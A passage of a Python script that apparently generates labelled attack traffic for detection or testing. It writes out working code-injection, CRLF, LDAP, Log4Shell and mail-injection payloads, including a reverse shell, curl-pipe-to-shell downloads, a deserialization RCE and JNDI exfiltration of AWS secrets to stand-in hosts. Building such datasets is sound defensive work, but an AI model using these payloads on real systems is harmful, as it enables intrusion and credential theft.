        "127.0.0.1 & ping -n 10 127.0.0.1 &",
    )


def gen_code_injection():
    begin("attack", "code_injection")
    node_b64 = b64("require('child_process').execSync('id')")
    py_b64 = b64("__import__('os').system('id')")
    nodeser = "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(error,stdout,stderr){console.log(stdout)});}()\"}"
    pickle_b64 = b64("cposix\nsystem\n(S'curl http://203.0.113.31/x|sh'\ntR.")
    Q("/api/v1/calc", "expr", "require('child_process').execSync('id').toString()")
    Q("/api/eval", "code", "process.mainModule.require('child_process').exec('curl 203.0.113.5/x|sh')")
    Q(
        "/api/v2/formula",
        "f",
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    )
    Q(
        "/api/v1/rules/test",
        "rule",
        "global['proc'+'ess']['main'+'Module']['req'+'uire']('child_'+'process')['exe'+'cSync']('id')",
        hard=True,
    )
    Q("/api/script/run", "src", "eval(Buffer.from('" + node_b64 + "','base64').toString())", hard=True)
    Q("/calc", "q", "__import__('os').system('whoami')")
    Q("/api/v1/filter", "where", "getattr(__import__('o'+'s'),'po'+'pen')('id').read()", hard=True)
    Q("/api/compute", "expression", "eval(__import__('base64').b64decode('" + py_b64 + "'))", hard=True)
    Q("/console", "cmd", "__import__('os').popen('id').read()", pre="__debugger__=yes&", post="&frm=0&s=" + rtoken(20))
    Q("/api/v1/convert", "unit", "`id`")
    Q("/search", "sort", "name;system('cat /etc/passwd')", hard=True, raw=mixenc("name;system('cat /etc/passwd')"))
    Q(
        "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript",
        "value",
        "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='orange.tw', root='http://203.0.113.80/')\n@Grab(group='tw.orange', module='poc', version='1')\nimport Orange;",
        pre="sandbox=true&",
    )
    Q("/api/v1/eval", "input", 'eval(\'\\x72\\x65\\x71uire("child_process").execSync("id")\')', hard=True)
    Q("/api/templates/preview", "helper", "Kernel.send(:\"sys#{'tem'}\", 'id')", hard=True)
    QK(
        "/spring/app",
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
        ".jsp",
        pre="class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&",
    )
    QK("/api/v1/report", "params[T(java.lang.Runtime).getRuntime().exec('id')]", "1")
    P(
        "/{}/",
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
        raw="%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D",
    )
    P("/api/v1/expr/{}", "T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')")
    P(
        "/api/calc/{}",
        "__import__('subprocess').check_output('id',shell=True)",
        raw=fullenc("__import__('subprocess').check_output('id',shell=True)"),
        hard=True,
    )
    J("POST", "/api/calc", {"expression": PH}, "__import__('os').popen('uname -a').read()")
    J(
        "POST",
        "/api/v1/sandbox/run",
        {"language": "python", "code": PH},
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()",
    )
    J(
        "POST",
        "/api/v1/automations",
        {"name": "nightly", "condition": PH},
        "exec(\"import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])\")",
    )
    J("POST", "/api/v2/rules", {"when": PH}, "IO.send(:popen, 'i'+'d').read", hard=True)
    J("POST", "/api/v1/transform", {"mapper": PH}, "open('|curl -s 203.0.113.9/r.sh | sh').read")
    J(
        "POST",
        "/_search",
        {"size": 1, "script_fields": {"x": {"script": PH}}},
        'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()',
    )
    J(
        "POST",
        "/api/v1/scripting/nashorn",
        {"script": PH},
        "var p=java.lang.Runtime.getRuntime().exec('cat /etc/passwd');",
    )
    J(
        "POST",
        "/api/v1/widgets/evaluate",
        {"js": PH},
        "new Function(atob('" + b64("return process.env") + "'))()",
        hard=True,
    )
    J("POST", "/api/v1/eval", {"expr": PH}, "';require('fs').readFileSync('/etc/passwd','utf8');//")
    J(
        "POST",
        "/api/v1/calc",
        {"formula": PH},
        "__import__('os').system('id')",
        hard=True,
        jraw="\"\\u005f\\u005fimport\\u005f\\u005f('os').system('id')\"",
    )
    JK("POST", "/api/v1/query", {"filter": {PH: True}}, "this.constructor.constructor('return process')().exit()")
    F(
        "POST",
        "/script",
        [("script", PH), ("Jenkins-Crumb", rhex(64)), ("Submit", "Run")],
        "println 'id'.execute().text",
    )
    F(
        "POST",
        "/groovy/console",
        [("script", PH)],
        'def proc = "cat /etc/passwd".execute(); proc.waitFor(); println proc.text',
    )
    FK(
        "POST",
        "/spring/app",
        [
            (
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                '%{prefix}i java.io.InputStream in = %{c}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); %{suffix}i',
            ),
            ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
        ],
        'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{prefix}i java.io.InputStream in = %{c}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); %{suffix}i',
    )
    F("POST", "/api/ruby/eval", [("code", PH)], 'eval("%x(id)")')
    F(
        "POST",
        "/tools/run",
        [("expr", PH)],
        "system('cat /etc/passwd')",
        hard=True,
        raw=fullenc("system('cat /etc/passwd')"),
    )
    H(
        "POST",
        "/functionRouter",
        "spring.cloud.function.routing-expression",
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
        body="test",
        ctype="text/plain",
    )
    H(
        "GET",
        "/struts2-showcase/index.action",
        "Content-Type",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}",
    )
    H("GET", "/api/v1/status", "X-Debug-Eval", "require('child_process').execSync('cat /etc/passwd')")
    C("/dashboard", "profile", b64(nodeser), hard=True, others=["lang=en"])
    C("/app/home", "session", pickle_b64, hard=True, others=["_ga=GA1.1.1234567890.1733300000"])
    C("/api/v1/prefs", "filter", "__import__('os').system('sleep 10')")
    M(
        "/api/v1/config/import",
        [("env", "staging"), ("config", "settings.yaml", "application/x-yaml", PH)],
        "!!python/object/apply:os.system ['curl -s http://203.0.113.23/i.sh | bash']",
    )
    M(
        "/api/v1/jobs",
        [("name", "etl"), ("script", PH)],
        'Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","id > /tmp/o"})',
    )
    X(
        "POST",
        "/wls-wsat/CoordinatorPortType",
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n@@PAYLOAD@@\n</work:WorkContext>\n</soapenv:Header>\n<soapenv:Body/>\n</soapenv:Envelope>',
        '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java>',
        ctype="text/xml",
    )
    X(
        "POST",
        "/api/rules/import",
        '<?xml version="1.0"?>\n<rule id="7"><condition><![CDATA[@@PAYLOAD@@]]></condition></rule>',
        "__import__('os').popen('cat /etc/shadow').read()",
    )


def gen_crlf():
    begin("attack", "crlf")
    Q("/redirect", "url", "/account\r\nSet-Cookie: session=6f1e2a; Path=/; Domain=.shopwave.io")
    Q("/logout", "next", "\r\nLocation: https://evil.example/phish")
    Q(
        "/set-language",
        "lang",
        "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>",
    )
    Q("/api/v1/download", "filename", "report.pdf\nX-XSS-Protection: 0")
    Q("/go", "to", "/home\rSet-Cookie: admin=1", hard=True)
    Q("/r", "u", "%0d%0aSet-Cookie:%20crlf=injection", hard=True)
    Q("/auth/callback", "state", "\u560a\u560dSet-Cookie:whoami=crlf", hard=True)
    Q("/track", "ref", "%u000d%u000aSet-Cookie:x=1", hard=True, raw="%u000d%u000aSet-Cookie:x=1", lit=True)
    Q("/api/login/audit", "user", "admin\n2026-12-05 10:00:01 INFO User admin logged in successfully from 10.0.0.1")
    Q(
        "/oauth/authorize",
        "redirect_uri",
        "https://app.trellisly.com/cb\r\n\tSet-Cookie: sid=attacker",
        hard=True,
        raw="https%3A%2F%2Fapp.trellisly.com%2Fcb%0D%0a%09Set-Cookie:%20sid=attacker",
    )
    Q(
        "/cdn-cgi/l/chk",
        "r",
        "x\r\nAccess-Control-Allow-Origin: https://evil.example\r\nAccess-Control-Allow-Credentials: true",
    )
    Q(
        "/api/v1/files/export",
        "name",
        "users.csv\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>",
        hard=True,
        raw=fullenc("users.csv\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    )
    QK("/search", "q\r\nSet-Cookie: x", "1")
    QK("/r", "\r\nLocation: https://evil.example", "", raw="%0d%0aLocation:%20https://evil.example=")
    P("/{}", "\r\nSet-Cookie:crlf=injection", raw="%0d%0aSet-Cookie:crlf=injection")
    P("/static/{}", "x\r\nLocation: //evil.example", raw="x%0D%0ALocation:%20%2F%2Fevil.example")
    P("/{}", "%0d%0aSet-Cookie:crlf=1", raw="%250d%250aSet-Cookie:crlf=1", hard=True)
    P(
        "/lang/{}",
        "\u560a\u560dcontent-type:text/html\u560a\u560dlocation:javascript:alert(1)",
        hard=True,
        raw="%E5%98%8A%E5%98%8Dcontent-type:text/html%E5%98%8A%E5%98%8Dlocation:javascript:alert(1)",
    )
    P(
        "/api/v1/download/{}",
        "report.pdf\r\nContent-Disposition: attachment; filename=update.exe",
        raw="report.pdf%0d%0aContent-Disposition:%20attachment;%20filename=update.exe",
    )
    P("/{}/admin", "%E5%98%8A%E5%98%8DSet-Cookie:x=1", raw="%25E5%2598%258A%25E5%2598%258DSet-Cookie:x=1", hard=True)
    J(
        "POST",
        "/api/v1/webhooks",
        {"url": "https://hooks.example.com/x", "headers": {"X-Signature": PH}},
        "abc\r\nHost: internal-admin.local\r\n",
    )
    J("POST", "/api/v1/exports", {"filename": PH, "format": "csv"}, "report.csv\r\nSet-Cookie: admin=true")
    J(
        "POST",
        "/api/v1/oauth/clients",
        {"name": "demo", "redirect_uri": PH},
        "https://app.example/cb\r\nX-Injected: true",
    )
    J(
        "POST",
        "/api/v1/redirects",
        {"target": PH},
        "/welcome\r\nRefresh: 0; url=https://evil.example",
        hard=True,
        jraw='"/welcome\\u000d\\u000aRefresh: 0; url=https://evil.example"',
    )
    J(
        "POST",
        "/api/v1/auth/login",
        {"username": PH, "password": "hunter2"},
        'guest\r\n[2026-12-05T10:11:12Z] level=info msg="login ok" user=admin role=superuser',
    )
    J("PUT", "/api/v1/profile", {"nickname": PH}, "bob\n\nHTTP/1.1 302 Found\nLocation: https://evil.example")
    JK("POST", "/api/v1/proxy/config", {"metadata": {PH: "v"}}, "X-Trace\r\nSet-Cookie: s=1")
    F("POST", "/session/return", [("return_to", PH)], "/home\r\nSet-Cookie: sid=x")
    F(
        "POST",
        "/login",
        [("user", "alice"), ("pass", "secret"), ("next", PH)],
        "/dashboard\r\nLocation: https://evil.example",
    )
    F("POST", "/api/users/import", [("display_name", PH)], "bob\r\n\r\nHTTP/1.1 302 Found\r\nLocation: //evil.example")
    F(
        "POST",
        "/preferences",
        [("timezone", PH)],
        "UTC\n\tX-Forwarded-Host: evil.example",
        hard=True,
        raw="UTC%0A%09X-Forwarded-Host%3A+evil.example",
    )
    H("GET", "/api/v1/items", "X-Forwarded-For", "127.0.0.1%0d%0aX-Admin: true")
    H("GET", "/", "Referer", "https://www.shopwave.io/%0d%0aSet-Cookie:%20promo=1")
    H("GET", "/api/v1/health", "X-Request-ID", "9f1c%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK")
    H("GET", "/home", "Accept-Language", "en-US%0d%0aX-Injected:%20yes")
    H("GET", "/account", "X-Forwarded-Host", "shop.example%E5%98%8A%E5%98%8DSet-Cookie:x=1", hard=True)
    H("GET", "/api/v1/cors", "Origin", "https://app.example%0aAccess-Control-Allow-Origin:%20*")
    C("/", "lang", "en\r\nSet-Cookie: admin=1")
    C("/checkout", "return_url", "/dash\r\nLocation: https://evil.example")
    C("/home", "pref", "%0d%0aSet-Cookie:x=1", raw="%250d%250aSet-Cookie:x=1", hard=True)
    M(
        "/api/v1/files",
        [("download_name", PH), ("file", "inv.pdf", "application/pdf", "%PDF-1.4 test")],
        "invoice.pdf\r\nSet-Cookie: session=hijacked",
    )
    M("/upload", [("callback_header", PH)], "X-Upload: done\r\nLocation: https://evil.example")
    X(
        "POST",
        "/soap/PaymentService",
        soap(
            "<tns:CreatePayment><tns:ReturnUrl>https://pay.example/ok&#13;&#10;Set-Cookie: s=1</tns:ReturnUrl></tns:CreatePayment>"
        ),
        "https://pay.example/ok\r\nSet-Cookie: s=1",
        hard=True,
    )
    X(
        "POST",
        "/api/xml/redirect",
        '<?xml version="1.0"?>\n<redirect><target><![CDATA[@@PAYLOAD@@]]></target></redirect>',
        "/home\nLocation: //evil.example",
    )


def gen_ldapi():
    begin("attack", "ldapi")
    Q("/directory/search", "name", "*)(uid=*))(|(uid=*")
    Q("/api/v1/people", "cn", "*")
    Q("/api/v1/people", "q", "*)(objectClass=*", pre="limit=20&")
    Q("/phonebook/lookup", "user", "admin)(&)")
    Q("/api/v1/groups/members", "group", "*)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)")
    Q("/api/v2/directory", "mail", "*)(userPassword=*")
    Q("/lookup", "uid", "jdoe)(|(objectClass=*)", hard=True, raw=fullenc("jdoe)(|(objectClass=*)"))
    Q("/directory/search", "sn", "smith*)(|(telephoneNumber=*", hard=False)
    Q("/api/v1/users/find", "login", "admin*)((|userPassword=*)")
    Q("/staff", "dept", "%2a%29%28uid%3d%2a", hard=True)
    Q("/api/ldap/search", "filter", "(&(objectClass=user)(sAMAccountName=*))")
    Q("/api/v1/directory", "name", "x)(cn=*))\x00", hard=True)
    Q("/employee/photo", "uid", "* ) ( | ( uid = * )", hard=True)
    Q("/api/v1/people/search", "q", LONG_PREFIX[2] + "*)(|(userPassword=*)", hard=True)
    Q("/api/v1/contacts", "email", "*)(ObJeCtClAsS=*", hard=True)
    QK("/api/v1/directory", "filter[(uid=*))(|(uid=*]", "1")
    QK("/api/v1/ldap/users", "attrs[*)(userPassword=*]", "true")
    P("/api/directory/users/{}", "*)(uid=*", raw="*)(uid=*")
    P("/api/v1/people/{}/manager", "admin)(|(objectClass=*)", raw="admin)(%7C(objectClass=*)")
    P("/users/{}/profile", "%2a%29%28cn%3d%2a", raw="%252a%2529%2528cn%253d%252a", hard=True)
    J("POST", "/api/v1/auth/ldap", {"username": PH, "password": "whatever"}, "*)(uid=*))(|(uid=*")
    J("POST", "/api/v1/auth/login", {"username": "admin", "password": PH}, "*)(&")
    J("POST", "/api/v1/directory/search", {"query": PH, "scope": "sub"}, "admin)(|(password=a*))")
    J("POST", "/api/v1/sso/lookup", {"upn": PH}, "*)(memberOf=CN=Administrators,CN=Builtin,DC=corp,DC=local")
    J("POST", "/api/v2/groups/resolve", {"dn": PH}, "cn=admin,dc=corp,dc=local)(objectClass=*")
    J("POST", "/api/v1/users/lookup", {"uid": PH}, "*)(uid=*", hard=True, jraw='"\\u002a)(uid=\\u002a"')
    J("PUT", "/api/v1/profile/manager", {"manager": PH}, "*)(|(description=*pass*)")
    JK("POST", "/api/v1/directory/query", {"attributes": {PH: "*"}}, "cn=*)(userPassword")
    F("POST", "/login", [("username", PH), ("password", "x")], "admin)(!(&(1=0)")
    F("POST", "/ldap/login.php", [("user", PH), ("pass", "*")], "admin*")
    F("POST", "/portal/auth", [("uid", PH), ("pwd", "pass")], "*)(uid=*))%00", hard=True)
    F("POST", "/directory/advanced", [("givenName", "a*"), ("sn", PH)], "*)(|(mail=*@corp.local)")
    F(
        "POST",
        "/api/v1/password/forgot",
        [("login", PH)],
        "admin*)(|(userPassword=*)",
        hard=True,
        raw=mixenc("admin*)(|(userPassword=*)"),
    )
    H("GET", "/api/v1/me", "X-Remote-User", "*)(mail=*")
    H("GET", "/intranet/", "X-Forwarded-User", "jsmith)(|(objectClass=*)")
    H("GET", "/api/v1/whoami", "Remote-User", "*)(%26", hard=True)
    C("/portal/home", "username", "*)(cn=*))(|(cn=*")
    C("/directory", "last_search", "*)(|(objectClass=*", hard=True, raw=fullenc("*)(|(objectClass=*"))
    M("/api/v1/directory/bulk", [("source", "hr"), ("file", "users.csv", "text/csv", PH)], "uid,cn\n*)(uid=*,Admin\n")
    M("/api/v1/ldap/test", [("bind_filter", PH)], "(|(uid=*)(cn=*))")
    X(
        "POST",
        "/services/Directory",
        soap("<tns:FindUser><tns:Login>@@PAYLOAD@@</tns:Login></tns:FindUser>"),
        "admin)(|(uid=*))",
    )
    X("POST", "/api/xml/people", '<?xml version="1.0"?>\n<search><filter>@@PAYLOAD@@</filter></search>', "*)(|(cn=*")


def gen_log4shell():
    begin("attack", "log4shell")
    oast = [
        "c8a1k2f0.oast.fun",
        "x91bd7.interact.sh",
        "q0l2m3n4.dnslog.cn",
        "r7t1y2.burpcollaborator.net",
        "log4j.a1b2c3.canarytokens.com",
        "d3f4g5.oast.me",
    ]
    H("GET", "/", "User-Agent", "${jndi:ldap://203.0.113.66:1389/Exploit}")
    H("GET", "/api/v1/status", "X-Api-Version", "${jndi:ldap://" + oast[0] + "/a}")
    H("GET", "/login", "Referer", "${jndi:rmi://198.51.100.4:1099/obj}")
    H("GET", "/", "X-Forwarded-For", "${jndi:dns://" + oast[1] + "}")
    H("GET", "/api/v1/orders", "Authorization", "Bearer ${jndi:ldap://" + oast[2] + "/x}")
    H("GET", "/", "User-Agent", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.91/a}", hard=True)
    H(
        "GET",
        "/admin",
        "X-Forwarded-Host",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.10/poc}",
        hard=True,
    )
    H(
        "GET",
        "/search",
        "Accept-Language",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//" + oast[3] + "/a}",
        hard=True,
    )
    H("GET", "/", "X-Client-IP", "${jndi:ldap://${sys:java.version}." + oast[4] + "/a}")
    H(
        "POST",
        "/api/v1/events",
        "X-Correlation-ID",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}." + oast[5] + "/k}",
        body='{"type":"pageview"}',
        ctype="application/json",
    )
    H("GET", "/", "True-Client-IP", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://203.0.113.12/z}", hard=True)
    H("GET", "/products", "Cache-Control", "${jndi:ldap://127.0.0.1#" + oast[0] + ":1389/a}", hard=True)
    H("GET", "/", "X-Wap-Profile", "${j${k8s:k5:-ND}i:ldap://" + oast[1] + "/o}", hard=True)
    H("GET", "/", "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${jndi:ldap://203.0.113.7/ua}")
    Q("/", "x", "${jndi:ldap://" + oast[2] + "/q}")
    Q(
        "/search",
        "q",
        "${jndi:ldap://203.0.113.22:1389/Basic/Command/Base64/" + b64("wget http://203.0.113.22/l.sh -O- | sh") + "}",
        post="&page=1",
    )
    Q("/api/v1/products", "sort", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + oast[3] + "/d}", hard=True)
    Q("/login", "username", "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.30%2Fa%7D", hard=True)
    Q("/solr/admin/cores", "action", "${jndi:ldap://" + oast[4] + "/solr}")
    Q("/api/v1/search", "term", "${jndi:iiop://203.0.113.55/obj}")
    H(
        "GET",
        "/websso/SAML2/SSO/vsphere.local",
        "X-Forwarded-For",
        "${jndi:ldap://" + oast[5] + "/vmw}",
        query="SAMLRequest=",
    )
    QK("/api/v1/report", "${jndi:ldap://" + oast[0] + "/k}", "1")
    P("/app/{}", "${jndi:ldap://203.0.113.8/p}", raw="$%7Bjndi:ldap:%2F%2F203.0.113.8%2Fp%7D")
    P(
        "/{}",
        "${jndi:ldap://${hostName}." + oast[1] + "/a}",
        raw=urllib.parse.quote("${jndi:ldap://${hostName}." + oast[1] + "/a}", safe=""),
    )
    P(
        "/api/v1/users/{}",
        "${${lower:jndi}:${lower:rmi}://198.51.100.45/x}",
        raw=mixenc("${${lower:jndi}:${lower:rmi}://198.51.100.45/x}"),
        hard=True,
    )
    J("POST", "/api/v1/auth/login", {"username": PH, "password": "Passw0rd!"}, "${jndi:ldap://" + oast[2] + "/login}")
    J("POST", "/api/v1/feedback", {"rating": 5, "comment": PH}, "Great app ${jndi:ldap://203.0.113.99:1389/a}")
    J(
        "POST",
        "/api/v2/telemetry",
        {"events": [{"name": "app_open", "device": PH}]},
        "${jndi:ldap://" + oast[3] + "/${env:HOSTNAME}}",
    )
    J(
        "POST",
        "/api/v1/search",
        {"query": PH},
        "${jndi:ldap://" + oast[4] + "/a}",
        hard=True,
        jraw='"\\u0024\\u007bjndi:ldap://' + oast[4] + '/a\\u007d"',
    )
    J("PUT", "/api/v1/profile", {"display_name": PH}, "${${::-j}ndi:rmi://203.0.113.70/x}", hard=True)
    J(
        "POST",
        "/api/v1/logs",
        {"level": "info", "message": PH},
        LONG_PREFIX[2] + "${jndi:ldap://" + oast[5] + "/m}",
        hard=True,
    )
    JK("POST", "/api/v1/metrics", {"tags": {PH: "prod"}}, "${jndi:dns://" + oast[0] + "/tag}")
    F(
        "POST",
        "/j_spring_security_check",
        [("j_username", PH), ("j_password", "test")],
        "${jndi:ldap://203.0.113.14:389/o=tomcat}",
    )
    F(
        "POST",
        "/contact",
        [("name", "Jo"), ("email", "jo@example.com"), ("message", PH)],
        "${jndi:ldap://" + oast[1] + "/contact}",
    )
    F(
        "POST",
        "/login.action",
        [("username", PH), ("password", "x")],
        "${${lower:${lower:jndi}}:${lower:ldap}://198.51.100.61/e}",
        hard=True,
    )
    F(
        "POST",
        "/api/v1/search",
        [("q", PH)],
        "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://" + oast[2] + "/f}",
        hard=True,
        raw=fullenc("${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://" + oast[2] + "/f}"),
    )
    C("/", "JSESSIONID", "${jndi:ldap://" + oast[3] + "/c}")
    C("/account", "remember_me", "${jndi:ldap://[::ffff:cb00:7142]:1389/a}", hard=True, others=["theme=light"])
    M("/api/v1/upload", [("title", PH), ("file", "a.txt", "text/plain", "hello")], "${jndi:ldap://" + oast[4] + "/mp}")
    X(
        "POST",
        "/api/xml/events",
        '<?xml version="1.0"?>\n<event><source>@@PAYLOAD@@</source></event>',
        "${jndi:ldap://" + oast[5] + "/xml}",
    )
    X(
        "POST",
        "/services/OrderService",
        soap("<tns:Track><tns:OrderId>@@PAYLOAD@@</tns:OrderId></tns:Track>"),
        "${jndi:rmi://203.0.113.3:1099/Exploit}",
    )


def gen_mail_injection():
    begin("attack", "mail_injection")
    F(
        "POST",
        "/contact",
        [("name", "John"), ("email", PH), ("subject", "Hi"), ("message", "Hello")],
        "john@example.com\r\nBcc: list1@victims.example,list2@victims.example",
    )
    F(
        "POST",
        "/contact.php",
        [("name", PH), ("email", "a@b.com"), ("msg", "hi")],
        "Alice\r\nCc: target@victims.example",
    )
    F(
        "POST",
        "/support/ticket",
        [("email", "bob@example.com"), ("subject", PH), ("body", "see above")],
        "Help\nBcc: spam-targets@victims.example\nContent-Type: text/html\n\n<a href=http://evil.example>win</a>",
    )
    F(
        "POST",
        "/newsletter/signup",
        [("email", PH)],
        "user@example.com\nTo: everyone@victims.example",
        hard=True,
        raw="user%40example.com%0ATo%3A+everyone%40victims.example",
    )
    F(
        "POST",
        "/share",
        [("to", PH), ("url", "https://www.greenleaf-market.com/p/123")],
        "friend@example.com%0d%0aBcc:others@victims.example",
        hard=True,
    )
    F(
        "POST",
        "/wp-login.php",
        [("action", "lostpassword"), ("user_login", PH)],
        "admin\r\nReply-To: attacker@evil.example",
    )
    F(
        "POST",
        "/feedback",
        [("email", PH), ("text", "ok")],
        '"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@email.com',
    )
    F(
        "POST",
        "/signup",
        [("email", PH), ("pass", "x")],
        "-OQueueDirectory=/tmp -X/var/www/html/rce.php @example.com",
        hard=True,
        raw=fullenc("-OQueueDirectory=/tmp -X/var/www/html/rce.php @example.com"),
    )
    F("POST", "/contact", [("from", PH)], "me@example.com\r\n\tBcc: victims@example.org", hard=True)
    Q("/unsubscribe", "email", "user@example.com\r\nBcc: victim@example.org")
    Q("/api/v1/mail/preview", "subject", "Invoice\r\nX-Mailer: evil\r\nBcc: all@victims.example")
    Q("/invite", "to", "friend@example.com\nCc: everyone@corp.example")
    Q("/api/v1/notify", "reply_to", "me@example.com%0ABcc:x@victims.example", hard=True)
    Q("/webmail/", "mailbox", "INBOX\r\nA002 DELETE INBOX", pre="_task=mail&")
    Q(
        "/mail/folder",
        "name",
        "Sent\r\nA3 LOGOUT\r\nA4 SELECT Trash",
        hard=True,
        raw=mixenc("Sent\r\nA3 LOGOUT\r\nA4 SELECT Trash"),
    )
    Q("/api/v1/mail/send", "from", "=?UTF-8?Q?a=0D=0ABcc:_victim@example.org?= <a@example.com>", hard=True)
    QK("/api/v1/mail/send", "headers[Bcc]", "victims@example.org", pre="to=me@example.com&")
    P(
        "/api/v1/invites/{}",
        "friend@example.com\r\nBcc: leads@victims.example",
        raw="friend%40example.com%0D%0ABcc%3A%20leads%40victims.example",
    )
    P("/unsubscribe/{}", "bob@example.com\nCc: crm@victims.example", raw="bob@example.com%0ACc:%20crm@victims.example")
    J(
        "POST",
        "/api/v1/contact",
        {"name": "Eve", "email": PH, "message": "hello"},
        "eve@example.com\nBcc: spamlist@victims.example",
    )
    J(
        "POST",
        "/api/v1/mail/send",
        {"to": "support@shopwave.io", "subject": PH, "body": "test"},
        "Order question\r\nBcc: a@victims.example,b@victims.example",
    )
    J(
        "POST",
        "/api/v1/share/email",
        {"recipient": PH},
        'x@example.com\r\nContent-Type: text/html\r\n\r\n<h1>Your account is locked</h1><a href="https://evil.example">verify</a>',
    )
    J(
        "POST",
        "/api/v1/referrals",
        {"email": PH},
        "pal@example.com\nBcc: target@victims.example",
        hard=True,
        jraw='"pal@example.com\\u000aBcc: target@victims.example"',
    )
    J(
        "POST",
        "/api/v1/smtp/test",
        {"mail_from": PH, "rcpt": "ops@example.com"},
        "ops@example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT",
    )
    J(
        "POST",
        "/api/v1/campaigns/test",
        {"body": PH},
        "Thanks for your order!\n.\r\nMAIL FROM:<ceo@bank.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nFrom: CEO <ceo@bank.example>\r\nSubject: urgent wire\r\n\r\nPlease wire funds.\r\n.\r\n",
        hard=True,
    )
    J(
        "POST",
        "/api/v1/notifications/email",
        {"name": PH, "email": "c@example.com"},
        LONG_PREFIX[1] + "\r\nBcc: list@victims.example",
        hard=True,
    )
    J("POST", "/api/v1/imap/folders", {"folder": PH}, 'INBOX"\r\nA1 UID FETCH 1:* (BODY[])')
    JK(
        "POST",
        "/api/v1/mail/send",
        {"to": "me@example.com", "headers": {PH: "spring"}},
        "X-Campaign\r\nBcc: list@victims.example",
    )
    H(
        "POST",
        "/api/v1/mail/relay",
        "X-Mail-From",
        "noreply@shopwave.io%0d%0aBcc:victim@example.org",
        body='{"template":"welcome"}',
        ctype="application/json",
    )
    H(
        "POST",
        "/contact",
        "From",
        "user@example.com%0ABcc:%20victims@example.org",
        body="message=hi",
        ctype="application/x-www-form-urlencoded",
    )
    H("GET", "/api/v1/mail/verify", "X-Reply-To", "a@example.com\\r\\nBcc: b@victims.example", hard=True)
    C("/newsletter", "subscriber_email", "me@example.com\r\nBcc: others@victims.example")
    C(
        "/contact",
        "last_email",
        "me@example.com%0aCc:x@victims.example",
        raw="me%40example.com%250aCc%3Ax%40victims.example",
        hard=True,
    )
    M(
        "/contact/attach",
        [("email", PH), ("message", "see file"), ("file", "cv.pdf", "application/pdf", "%PDF-1.4 ...")],
        "applicant@example.com\r\nBcc: hr-list@victims.example",
    )
    M("/api/v1/tickets", [("subject", PH), ("description", "cannot login")], "Login issue\nCc: all-staff@corp.example")
    X(
        "POST",
        "/services/MailService",
        soap("<tns:SendMail><tns:To>support@shopwave.io</tns:To><tns:Subject>@@PAYLOAD@@</tns:Subject></tns:SendMail>"),
        "Hi\nBcc: spam@victims.example",
